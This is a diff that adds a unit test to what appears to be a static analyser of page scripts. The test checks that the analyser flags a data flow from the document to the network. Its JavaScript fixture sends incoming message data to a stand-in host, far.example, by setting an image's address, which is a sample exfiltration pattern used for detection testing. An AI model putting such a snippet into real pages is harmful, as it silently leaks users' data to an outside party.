@@ -122,6 +122,18 @@ class PageElementsTest {
     }
 
     @Test
+    void anAddressThatMayBeCodeHidesNoOther() {
+        Analysis analysis = of("""
+                addEventListener('message', e => {
+                  const image = document.createElement('img');
+                  image.src = navigator.onLine ? 'https://far.example/?' + e.data : 'javascript:0';
+                });
+                """);
+
+        assertThat(analysis.flowNames()).contains("editor-document -> network-url");
+    }
+
+    @Test
     void anAddressThatIsAllDataIsNoPlaceWhereTheDataGoes() {
         Analysis analysis = of("addEventListener('message', e => { document.createElement('img').src = e.data; });");
 
